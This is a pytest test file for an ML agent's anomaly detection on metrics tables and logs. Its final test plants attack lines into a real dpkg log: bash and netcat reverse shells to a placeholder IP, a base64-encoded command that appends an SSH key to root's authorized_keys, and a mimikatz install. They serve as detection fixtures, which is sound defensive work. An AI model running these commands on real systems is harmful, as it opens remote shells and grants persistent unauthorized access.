"""Anomaly detection: the planted outliers of a table and the planted lines of a log are the top
anomalies, each explained by the features that carry it."""

from pathlib import Path

import pytest

from apps.agents.ml import MLAgent
from apps.core.vocabulary import TaskType
from tests.agents import fixtures_files as ff
from tests.agents.fixtures_runner import media_root, run_on_files  # noqa: F401

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]


def detect(organization, files, **params):
    return run_on_files(MLAgent, organization, files, task_type=TaskType.ANOMALY_DETECTION, **params)


def test_planted_table_outliers_are_the_top_anomalies(organization):
    run = detect(organization, {"metrics.csv": ff.metrics_csv()})

    result = run.data["anomalies"][0]
    assert run.data["mode"] == "anomaly" and result["method"] == "isolation_forest"
    assert set(result["features"]) == {"cpu", "latency_ms", "requests", "bytes_out"}
    assert set(result["ignored_columns"]) == {"date", "host", "status"}
    top = result["top"][:3]
    assert sorted(t["row"] for t in top) == sorted(ff.OUTLIER_ROWS)
    for anomaly in top:
        assert anomaly["flagged"] is True
        assert {e["feature"] for e in anomaly["explanation"][:2]} == {"latency_ms", "bytes_out"}
        assert anomaly["explanation"][0]["robust_z"] > 10
    assert result["top"][3]["score"] < top[-1]["score"]
    assert "most anomalous: row" in run.result.summary


def test_results_are_reproducible(organization):
    first = detect(organization, {"metrics.csv": ff.metrics_csv()}).data["anomalies"][0]["top"]
    second = detect(organization, {"metrics.csv": ff.metrics_csv()}).data["anomalies"][0]["top"]
    assert first == second


def test_robust_z_method(organization):
    run = detect(
        organization, {"metrics.csv": ff.metrics_csv()}, method="robust_z", exclude_columns=["requests"]
    )
    result = run.data["anomalies"][0]
    assert result["method"] == "robust_z" and "requests" not in result["features"]
    assert sorted(t["row"] for t in result["top"][:3]) == sorted(ff.OUTLIER_ROWS)


def test_planted_log_lines_are_the_top_anomalies(organization):
    log, planted = ff.auth_log()
    run = detect(organization, {"auth.log": log})

    result = run.data["anomalies"][0]
    assert result["kind"] == "log" and result["lines_scored"] == 600
    top = result["top"][:3]
    assert sorted(t["line"] for t in top) == planted
    lines = log.splitlines()
    for anomaly in top:
        assert anomaly["text"] == lines[anomaly["line"]]
        assert anomaly["template_count"] == 1
        features = {e["feature"] for e in anomaly["explanation"]}
        assert "template_rarity" in features and any(f.startswith("content: ") for f in features)
    # Drain folds the five request paths into one template ("/" alone is no masked path); the
    # 597 routine lines make two templates
    assert [(t["template"], t["count"]) for t in result["top_templates"][:2]] == [
        ("nginx: <ip> GET <*> <num> <num>", 428),
        ("sshd: Connection closed by <ip> port <num> [preauth]", 169),
    ]


def test_too_little_data_fails_cleanly(organization):
    run = detect(organization, {"tiny.log": "one line\nand another\n"})
    assert run.result.status == "failed"
    assert "too few" in run.result.error_message


def test_row_limit(organization, settings):
    settings.AMAS_ML_MAX_ROWS = 100
    run = detect(organization, {"metrics.csv": ff.metrics_csv()})
    result = run.data["anomalies"][0]
    assert result["rows_scored"] == 100
    assert result["top"][0]["row"] == ff.OUTLIER_ROWS[0]  # the only planted outlier within the first 100 rows


def test_contamination_sets_how_many_are_flagged(organization):
    auto = detect(organization, {"metrics.csv": ff.metrics_csv()}).data["anomalies"][0]
    fixed = detect(organization, {"metrics.csv": ff.metrics_csv()}, contamination=0.01).data["anomalies"][0]
    assert fixed["flagged"] == 4  # 1 % of 400 rows
    assert 3 <= auto["flagged"] < 40  # only rows whose score stands out among the scores


# A real dpkg log from the machine the tests were written on (tests/data/logs/dpkg.log, a verbatim
# copy of /var/log/dpkg.log) with the attack lines of issue 15 planted at fixed positions.
PLANTED = {
    800: "2025-06-24 15:02:11 status installed bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    1700: "Jun 24 15:10:01 build-01 sshd[4242]: Failed password for invalid user admin from 198.51.100.23 "
    "port 52344 ssh2",
    2500: "2025-06-24 15:20:45 trigproc echo ZWNobyAnc3NoLXJzYSBBQUFBQjNOemFDMXljMkVBQUFBREFRQUJBQUFCZ1FDJyA+"
    "PiAvcm9vdC8uc3NoL2F1dGhvcml6ZWRfa2V5cw== | base64 -d | sh",
    3300: "2025-06-24 15:31:07 install mimikatz:amd64 <none> 2.2.0-1",
    4100: "2025-06-24 15:40:19 startup packages configure; nc -e /bin/sh 203.0.113.9 4444",
}
EXPECTED_SIGNAL = {
    800: "content: reverse shell",
    1700: "content: authentication failure",
    2500: "content: encoded command",
    3300: "content: credential-dumping tool",
    4100: "content: reverse shell",
}


def dpkg_log_with_planted_lines() -> str:
    lines = (Path(__file__).resolve().parents[1] / "data" / "logs" / "dpkg.log").read_text().splitlines()
    for at in sorted(PLANTED):  # ascending, so each planted line ends up at its own index
        lines.insert(at, PLANTED[at])
    return "\n".join(lines) + "\n"


def test_planted_attack_lines_in_a_real_dpkg_log_rank_in_the_top_ten(organization, settings):
    settings.AMAS_ML_MAX_ROWS = 50_000
    run = detect(organization, {"dpkg.log": dpkg_log_with_planted_lines()}, top=10)

    result = run.data["anomalies"][0]
    assert result["lines_scored"] == 4896
    assert result["templates"] < 50  # the routine lines fold into a few templates
    ranked = {t["line"]: t for t in result["top"]}
    assert set(PLANTED) <= set(ranked)
    for line, signal in EXPECTED_SIGNAL.items():
        assert ranked[line]["text"] == PLANTED[line]
        assert ranked[line]["flagged"] is True
        assert ranked[line]["explanation"][0]["feature"] == signal
    assert result["flagged"] == len(PLANTED)  # nothing routine is flagged
    assert "install <*> <none> <*>" in [t["template"] for t in result["top_templates"]]
